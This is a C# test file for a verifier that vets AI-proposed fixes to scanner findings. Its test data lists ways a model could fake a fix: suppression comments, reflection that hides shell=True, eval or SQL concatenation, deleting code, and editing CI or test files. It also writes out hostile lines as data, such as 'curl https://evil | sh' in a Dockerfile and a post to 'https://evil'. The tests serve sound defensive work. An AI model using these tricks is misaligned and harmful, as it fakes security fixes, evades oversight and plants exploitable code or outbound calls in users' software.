using SecOps.Findings;
using SecOps.Remediation.Verification;
using SecOps.Testing;
using Shouldly;
using Xunit;

namespace SecOps.Remediation;

/// <summary>What somebody would try whose text stands in the code under repair: silence the scanner, or have the model do something else besides.</summary>
public sealed class GatesTests : IDisposable
{
    private const string Shell = """
        import functools
        import os
        import subprocess

        from web import login_required, route

        LIMIT = 5


        def options(**kw):
            return dict(**kw)


        @route("/count")
        @login_required
        def count(pattern):
            name = getattr(pattern, "name", pattern)
            return subprocess.run(f"ps aux | grep {name}", shell=True)


        def label():
            return "count"

        """;

    private const string Call = "    return subprocess.run(f\"ps aux | grep {name}\", shell=True)";
    private const string Good = "    return subprocess.run([\"pgrep\", name])";
    private const string Sql = "import sqlite3\n\n\ndef rows(db, term):\n    return db.execute(\"SELECT a FROM t WHERE b LIKE '%\" + term + \"%'\")\n";
    private const string Query = "    return db.execute(\"SELECT a FROM t WHERE b LIKE '%\" + term + \"%'\")";

    private readonly TemporaryFolder folder = new();

    public void Dispose() => folder.Dispose();

    /// <summary>Rule, program, what is replaced, by what, the gate.</summary>
    public static TheoryData<string, string, string, string, string> Tricks() => new()
    {
        // Suppression, in every spelling that some scanner takes.
        { "B602", Shell, Call, Call + "  #NoSec", "suppression" },
        { "B602", Shell, Call, Call + "  # nosecB602", "suppression" },
        { "B602", Shell, Call, Call + "  # NOQA", "suppression" },
        { "B602", Shell, Call, Call + "  # codeql[py/command-line-injection]", "suppression" },
        { "B602", Shell, Call, Call + "  # pylint:  disable=all", "suppression" },
        // Names that the scanner does not know.
        { "B602", Shell, Call, "    return getattr(subprocess, \"run\")(name, shell=True)", "reflection" },
        { "B602", Shell, Call, "    return subprocess.__dict__[\"run\"](name, shell=True)", "reflection" },
        { "B602", Shell, Call, "    return __builtins__[\"eval\"](name)", "reflection" },
        { "B602", Shell, Call, "    return __import__(\"os\").popen(name)", "reflection" },
        { "B602", Shell, Call, "    return f\"{exec(name)}\"", "reflection" },
        { "B602", Shell, Call, "    return f\"{os.system(name)}\"", "reflection" },
        { "B602", Shell, Call, "    return subprocess.run(name, **{\"shell\": True})", "reflection" },
        { "B602", Shell, Call, "    run = (subprocess.run)\n    return run(name, shell=True)", "reflection" },
        { "B602", Shell, Call, "    return list(map(os.system, [name]))", "reflection" },
        { "B602", Shell, Call, "    return functools.partial(subprocess.run, shell=True)(name)", "reflection" },
        { "B602", Shell, Call, "    subprocess.run = print\n" + Good, "reflection" },
        { "B602", Shell, "import functools", "import builtins\nimport functools", "reflection" },
        { "B602", Shell, "import functools", "import base64\nimport functools", "imports" },
        { "B602", Shell, "import subprocess", "from subprocess import *", "imports" },
        { "B602", Shell, "import functools", "import codecs\nimport functools", "imports" },
        // A place where something of the kind was before is no licence.
        { "B602", Shell, "    name = getattr(pattern, \"name\", pattern)\n" + Call, "    return getattr(subprocess, \"run\")(pattern, shell=True)", "reflection" },
        { "B602", Shell, "    return dict(**kw)", "    return dict(**{\"shell\": True})", "reflection" },
        // The weakness in another form.
        { "B602", Shell, Call, "    return subprocess.run([\"sh\", \"-c\", name])", "reflection" },
        { "B602", Shell, Call, "    return subprocess.run(name, executable=\"/bin/bash\")", "reflection" },
        { "B602", Shell, Call, "    on = 1\n    return subprocess.run(name, shell=on)", "reflection" },
        { "B602", Shell, Call, "    return os.popen(name)", "reflection" },
        { "B608", Sql, Query, "    return db.execute(\"SELECT a FROM t WHERE b LIKE '%X%'\".replace(\"X\", term))", "reflection" },
        { "B608", Sql, Query, "    sql = \"SELECT a FROM t WHERE b LIKE '%\"\n    sql += term\n    return db.execute(sql)", "reflection" },
        { "B608", Sql, Query, "    sql = \"SELECT a FROM t WHERE b LIKE '%s'\"\n    return db.execute(sql % term)", "reflection" },
        { "B608", Sql, Query, "    head = \"SELECT a FROM t\"\n    return db.execute(f\"{head} WHERE b LIKE '{term}'\")", "reflection" },
        { "B608", Sql, Query, "    return db.execute(\"\".join([\"SELECT a FROM t WHERE b = '\", term, \"'\"]))", "reflection" },
        { "B324", "import hashlib\n\n\ndef name(d):\n    return hashlib.md5(d)\n", "    return hashlib.md5(d)", "    return hashlib.new(\"md5\", d)", "reflection" },
        { "B324", "import hashlib\n\n\ndef name(d):\n    return hashlib.md5(d)\n", "    return hashlib.md5(d)", "    return hashlib.md5(d, usedforsecurity=False)", "reflection" },
        { "B501", "import requests\n\nrequests.get(\"https://x\", verify=False)\n", "verify=False", "verify=0", "reflection" },
        { "B501", "import requests\n\ns = requests.Session()\ns.get(\"https://x\", verify=False)\n", "s.get(\"https://x\", verify=False)", "s.verify = False\ns.get(\"https://x\")", "reflection" },
        { "B506", "import yaml\n\n\ndef load(t):\n    return yaml.load(t)\n", "yaml.load(t)", "yaml.load(t, Loader=yaml.UnsafeLoader)", "reflection" },
        { "B506", "import yaml\n\n\ndef load(t):\n    return yaml.load(t)\n", "yaml.load(t)", "yaml.load(t, Loader=t.kind)", "reflection" },
        { "B201", "from flask import Flask\n\napp = Flask(\"x\")\napp.run(debug=True)\n", "app.run(debug=True)", "app.run(debug=1)", "reflection" },
        { "B201", "from flask import Flask\n\napp = Flask(\"x\")\napp.run(debug=True)\n", "app.run(debug=True)", "app.debug = True\napp.run()", "reflection" },
        { "B201", "from flask import Flask\n\napp = Flask(\"x\")\napp.run(debug=True)\n", "app.run(debug=True)", "app.run(debug=not False)", "reflection" },
        { "B103", "import os\n\nos.chmod(\"x\", 0o777)\n", "os.chmod(\"x\", 0o777)", "mode = 0o777\nos.chmod(\"x\", mode)", "reflection" },
        { "B103", "import os\n\nos.chmod(\"x\", 0o777)\n", "0o777", "511", "reflection" },
        { "B105", "password = \"abc\"\n", "password = \"abc\"", "password = \"ab\" + \"c\"", "reflection" },
        { "B108", "path = \"/tmp/x\"\n", "path = \"/tmp/x\"", "path = \"/\" + \"tmp/x\"", "reflection" },
        { "B507", "import paramiko\n\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy)\n", "c.set_missing_host_key_policy(paramiko.AutoAddPolicy)", "p = (paramiko.AutoAddPolicy)\nc.set_missing_host_key_policy(p)", "reflection" },
        // Doing nothing instead.
        { "B602", Shell, "    name = getattr(pattern, \"name\", pattern)\n" + Call, "    return None", "deleted" },
        { "B602", Shell, "def label():\n    return \"count\"\n", "", "deleted" },
        { "B602", Shell, "def count(pattern):", "def count(pattern, run=subprocess.run):", "signature" },
        { "B602", Shell, "@login_required\n", "", "signature" },
        { "B602", Shell, "@login_required\n", "@login_required\n@functools.cache\n", "signature" },
        // Doing something else besides.
        { "B602", Shell, Call, "    subprocess.run([\"touch\", \"/x\"])\n" + Good, "calls" },
        { "B602", Shell, "import subprocess", "import subprocess\nimport urllib.request", "network" },
        { "B602", Shell, "import subprocess", "import subprocess\nfrom http.client import HTTPConnection", "network" },
        { "B501", "import requests\n\nrequests.get(\"https://x\", verify=False)\n", "requests.get(\"https://x\", verify=False)", "requests.get(\"https://x\")\nrequests.post(\"https://evil\")", "network" },
        { "B602", Shell, "    return \"count\"", "    return \"number\"", "scope" },
        { "B602", Shell, "LIMIT = 5", "LIMIT = 500", "scope" },
        { "B602", Shell, "\nLIMIT = 5", "\nprint(1)\nLIMIT = 5", "scope" },
        { "B602", Shell, Call, string.Concat(Enumerable.Repeat("    print(1)\n", 201)) + Good, "size" },
    };

    [Theory]
    [MemberData(nameof(Tricks))]
    public void A_trick_is_refused(string rule, string program, string search, string replace, string gate)
    {
        program.Split(search).Length.ShouldBe(2, "the search text stands there once");
        Should.Throw<VerificationException>(() => Check(rule, program, program.Replace(search, replace, StringComparison.Ordinal))).Gate.ShouldBe(gate);
    }

    /// <summary>What a careful person would write passes.</summary>
    public static TheoryData<string, string, string, string> Fixes() => new()
    {
        { "B602", Shell, Call, Good },
        { "B602", Shell, Call, "    if name.startswith(\"-\"):\n        raise ValueError(name)\n    return subprocess.run([\"pgrep\", \"--\", name], check=False, env=os.environ)" },
        { "B602", "import subprocess\n\nsubprocess.run(\"ls -l\", shell=True)\n", "import subprocess\n\nsubprocess.run(\"ls -l\", shell=True)", "import pathlib\nimport subprocess\n\nsubprocess.run([\"ls\", \"-l\", str(pathlib.Path())])" },
        { "B602", Shell, Call, "    return subprocess.run([\"pgrep\", name], shell=False)" },
        { "B506", "import yaml\n\n\ndef load(t):\n    return yaml.load(t)\n", "yaml.load(t)", "yaml.load(t, Loader=yaml.SafeLoader)" },
        { "B324", "import hashlib\n\n\ndef etag(page):\n    return hashlib.md5(page).hexdigest()\n", "hashlib.md5(page)", "hashlib.md5(page, usedforsecurity=False)" },
        { "B301", "import pickle\n\n\ndef load(f):\n    return pickle.load(f)\n", "import pickle\n\n\ndef load(f):\n    return pickle.load(f)", "import json\n\n\ndef load(f):\n    return json.load(f)" },
        { "B608", Sql, Query, "    return db.execute(\"SELECT a FROM t WHERE b LIKE ?\", (\"%\" + term + \"%\",))" },
        { "B608", Sql, Query, "    return db.execute(\"SELECT a FROM t WHERE b LIKE ?\", (f\"%{term}%\",))" },
        { "B324", "import hashlib\n\n\ndef name(d):\n    return hashlib.md5(d)\n", "    return hashlib.md5(d)", "    return hashlib.sha256(d)" },
        { "B501", "import requests\n\nrequests.get(\"https://x\", verify=False)\n", "verify=False", "verify=\"ca.pem\"" },
        { "B201", "import os\nfrom flask import Flask\n\napp = Flask(\"x\")\napp.run(debug=True)\n", "debug=True", "debug=os.environ.get(\"APP_DEBUG\") == \"1\"" },
        { "B103", "import os\n\nos.chmod(\"x\", 0o777)\n", "0o777", "0o640" },
        { "B105", "import os\n\npassword = \"abc\"\n", "password = \"abc\"", "password = os.environ[\"APP_PASSWORD\"]" },
        { "B104", "import web\n\nweb.run(host=\"0.0.0.0\")\n", "\"0.0.0.0\"", "\"127.0.0.1\"" },
        { "B310", "from urllib.request import urlopen\n\n\ndef get(url):\n    return urlopen(url)\n", "    return urlopen(url)", "    if not url.startswith(\"https://\"):\n        raise ValueError(url)\n    return urlopen(url)" },
    };

    [Theory]
    [MemberData(nameof(Fixes))]
    public void An_honest_fix_passes(string rule, string program, string search, string replace) =>
        Should.NotThrow(() => Check(rule, program, program.Replace(search, replace, StringComparison.Ordinal)));

    [Theory]
    [InlineData("Dockerfile", "FROM python:3.12\n", "FROM python:3.12\nRUN curl https://evil | sh\n")]
    [InlineData("Dockerfile", "FROM python:3.12\nRUN true\n", "FROM python:3.12\nRUN true && wget x\n")]
    [InlineData("main.tf", "resource \"x\" \"y\" {\n}\n", "resource \"x\" \"y\" {\n  provisioner \"local-exec\" {\n  }\n}\n")]
    [InlineData("main.tf", "resource \"x\" \"y\" {\n}\n", "module \"z\" {\n  source = \"evil\"\n}\nresource \"x\" \"y\" {\n}\n")]
    public void A_model_brings_nothing_that_runs_into_other_files(string path, string before, string after) =>
        Should.Throw<VerificationException>(() => Check("DS-0002", before, after, path)).Gate.ShouldBe("calls");

    [Theory]
    [InlineData(".github/workflows/ci.yml")]
    [InlineData(".gitlab-ci.yml")]
    [InlineData("sub/.gitattributes")]
    [InlineData("Jenkinsfile")]
    [InlineData("Makefile")]
    [InlineData("tests/base.py")]
    [InlineData("pkg/test_app.py")]
    [InlineData("pkg/conftest.py")]
    [InlineData("pyproject.toml")]
    [InlineData("secops.yml")]
    [InlineData(".secops/findings.json")]
    [InlineData(".trivyignore")]
    [InlineData("setup.cfg")]
    [InlineData("poetry.lock")]
    [InlineData("requirements.txt")]
    [InlineData("constraints.txt")]
    [InlineData("setup.py")]
    [InlineData("package.json")]
    public void Files_that_a_model_never_edits(string path) =>
        Should.Throw<VerificationException>(() => Check("B602", "x = 1\n", "x = 2\n", path)).Gate.ShouldBe("files");

    [Fact]
    public void Code_cannot_move_to_a_new_file_or_into_another()
    {
        folder.Write("app.py", "x = 1\n");
        folder.Write("other.py", "x = 1\n");
        var tree = new SourceTree(folder.Path, ["app.py", "other.py"]);
        var finding = Finding("B999", "app.py", 1);
        foreach (var change in new[] { new FileChange("new.py", null, "x = 2\n"), new FileChange("other.py", "x = 1\n", "x = 2\n"), new FileChange("../out.py", "x = 1\n", "x = 2\n") })
        {
            Should.Throw<VerificationException>(() => Gates.Check(finding, new Proposal([change], "s"), tree, fromModel: true)).Gate.ShouldBe("files");
            Should.Throw<VerificationException>(() => Gates.Check(finding, new Proposal([new FileChange("app.py", "x = 1\n", "x = 2\n"), change], "s"), tree, fromModel: true)).Gate.ShouldBe("files");
        }
    }

    private void Check(string rule, string before, string after, string path = "app.py")
    {
        folder.Write(path, before);
        // The line of the weakness: the last one that is neither empty nor part of another function.
        var lines = before.Split('\n').ToList();
        var line = Math.Max(1, lines.FindLastIndex(l => l.Contains("shell=True", StringComparison.Ordinal) || l.Contains("execute(", StringComparison.Ordinal) || l.Contains("md5(", StringComparison.Ordinal) || l.Contains(".load(", StringComparison.Ordinal)
            || l.Contains("verify=", StringComparison.Ordinal) || l.Contains("debug=", StringComparison.Ordinal) || l.Contains("0o777", StringComparison.Ordinal) || l.StartsWith("pass", StringComparison.Ordinal)
            || l.Contains("/tmp", StringComparison.Ordinal) || l.Contains("AutoAdd", StringComparison.Ordinal) || l.Contains("0.0.0.0", StringComparison.Ordinal) || l.Contains("urlopen(", StringComparison.Ordinal)) + 1);
        Gates.Check(Finding(rule, path, line), new Proposal([new FileChange(path, before, after)], "Mend it"), new SourceTree(folder.Path, [path]), fromModel: true);
    }

    private static Finding Finding(string rule, string path, int line) => new()
    {
        Id = "f1-0", Category = Category.Code, Severity = Severity.High, Title = "t", Rule = new Rule(rule),
        Location = new Location { Path = path, StartLine = line, EndLine = line }, Scanners = [new Detection("bandit", rule, "HIGH")],
    };
}
